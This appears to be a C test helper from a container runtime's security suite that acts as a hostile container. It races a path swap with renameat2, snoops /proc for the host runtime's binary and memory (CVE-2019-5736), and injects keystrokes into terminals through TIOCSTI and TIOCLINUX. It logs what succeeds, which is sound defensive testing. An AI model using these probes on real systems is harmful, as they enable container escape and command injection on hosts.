/* SPDX-License-Identifier: Apache-2.0 */
/*
 * racer - the attacker of test/security: what a hostile container or a hostile neighbour does
 * in a loop while the runtime is at work
 *
 *     exchange A B     swaps two names for ever (renameat2), to bend a path between look and use
 *     snoop LOG        as the first process of a container: looks into each process that comes;
 *                      a line in LOG for whatever of the host's it got hold of
 *     tty LOG          puts input into every terminal that it can name
 *
 * The trap: a process that has become the container's program may be looked into by right. So a
 * thing counts only if it is the host's by itself: an image that is not in the container's root
 * and could be written, a directory that is not the root, the memory of a process whose image is
 * not in the root before and after.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/tiocl.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <unistd.h>

enum { AHEAD = 8, MEMORY_TRIES = 64 };

static int log_fd = -1;

__attribute__((format(printf, 1, 2))) static void tell(const char *format, ...)
{
    va_list list;

    va_start(list, format);
    vdprintf(log_fd, format, list);
    va_end(list);
}

static int open_of(int pid, const char *name, int flags)
{
    char path[64];

    snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
    return open(path, flags | O_CLOEXEC);
}

static bool same(const struct stat *a, const struct stat *b)
{
    return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* 1: the image is in the container's root; 0: it is not; -1: it cannot be told. */
static int image_is_ours(int pid, const struct stat *root, int *ret_fd)
{
    struct stat st;

    *ret_fd = open_of(pid, "exe", O_PATH);
    if (*ret_fd < 0 || fstat(*ret_fd, &st) < 0)
        return -1;
    return st.st_dev == root->st_dev;
}

/* CVE-2019-5736: hold the image, and write to it as soon as nobody executes it. */
static void try_to_overwrite(int pid, int image)
{
    char path[64], target[256] = "";

    snprintf(path, sizeof(path), "/proc/self/fd/%d", image);
    if (readlink(path, target, sizeof(target) - 1) < 0)
        return;
    for (int i = 0; i < MEMORY_TRIES; i++) {
        int fd = open(path, O_WRONLY | O_CLOEXEC);

        if (fd < 0)
            continue;
        int seals = fcntl(fd, F_GET_SEALS);
        if (seals < 0 || !(seals & F_SEAL_WRITE))
            tell("%d: image open for writing: %s\n", pid, target);
        close(fd);
        return;
    }
}

static void look_at_image(int pid, const struct stat *root)
{
    int image, memory;

    if (image_is_ours(pid, root, &image) == 0)
        try_to_overwrite(pid, image);
    if (image >= 0)
        close(image);
    memory = open_of(pid, "mem", O_RDWR);
    if (memory >= 0) {
        /* the image now is that of then, or a younger one: if it is the host's, that was, too */
        if (image_is_ours(pid, root, &image) == 0)
            tell("%d: memory of the runtime\n", pid);
        if (image >= 0)
            close(image);
        close(memory);
    }
}

static void look_at_directory(int pid, const char *name, const struct stat *root)
{
    int fd = open_of(pid, name, O_PATH | O_DIRECTORY);
    struct stat st;

    if (fd < 0)
        return;
    if (fstat(fd, &st) == 0 && !same(&st, root))
        tell("%d: %s is not the root\n", pid, name);
    close(fd);
}

static void look_at_descriptors(int pid, const struct stat *root)
{
    int list = open_of(pid, "fd", O_RDONLY | O_DIRECTORY);
    DIR *dir = list >= 0 ? fdopendir(list) : NULL;

    if (!dir) {
        if (list >= 0)
            close(list);
        return;
    }
    for (struct dirent *entry; (entry = readdir(dir));) {
        char name[300];

        if (*entry->d_name == '.')
            continue;
        snprintf(name, sizeof(name), "fd/%s", entry->d_name);
        look_at_directory(pid, name, root);
    }
    closedir(dir);
}

/* New processes have the next numbers; the last one that was there is looked at until it is gone.
 */
static int snoop(void)
{
    struct stat root;

    if (stat("/", &root) < 0)
        return 1;
    tell("begin\n");
    for (int last = (int)getpid();;) {
        bool found = false;

        for (int pid = last + 1; pid <= last + AHEAD; pid++) {
            char path[32];

            snprintf(path, sizeof(path), "/proc/%d", pid);
            while (access(path, F_OK) == 0) {
                look_at_image(pid, &root);
                look_at_directory(pid, "cwd", &root);
                look_at_directory(pid, "root", &root);
                look_at_descriptors(pid, &root);
                found = true;
                last = pid;
            }
            if (found)
                break;
        }
    }
}

static int exchange(const char *a, const char *b)
{
    for (;;) {
        if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0 && errno != ENOENT)
            return 1;
    }
}

/* CVE-2016-10124, CVE-2017-5226: type a command, or paste one from a virtual console. */
static int type_into_terminals(void)
{
    static const char *const names[] = { "/dev/tty",    "/dev/console", "/dev/stdin",
                                         "/dev/stdout", "/dev/stderr",  "/proc/1/fd/0" };

    for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
        int fd = open(names[i], O_RDWR | O_NOCTTY | O_CLOEXEC);
        char paste = TIOCL_PASTESEL;

        if (fd < 0)
            continue;
        for (const char *c = "stolen\n"; *c; c++)
            tell("%s: TIOCSTI: %s\n", names[i],
                 ioctl(fd, TIOCSTI, c) < 0 ? strerror(errno) : "works");
        tell("%s: TIOCLINUX: %s\n", names[i],
             ioctl(fd, TIOCLINUX, &paste) < 0 ? strerror(errno) : "works");
        close(fd);
    }
    tell("end\n");
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 4 && strcmp(argv[1], "exchange") == 0)
        return exchange(argv[2], argv[3]);
    if (argc == 3) {
        log_fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC | O_APPEND | O_CLOEXEC, 0666);
        if (log_fd >= 0 && strcmp(argv[1], "snoop") == 0)
            return snoop();
        if (log_fd >= 0 && strcmp(argv[1], "tty") == 0)
            return type_into_terminals();
    }
    fprintf(stderr, "usage: racer exchange A B | snoop LOG | tty LOG\n");
    return 2;
}
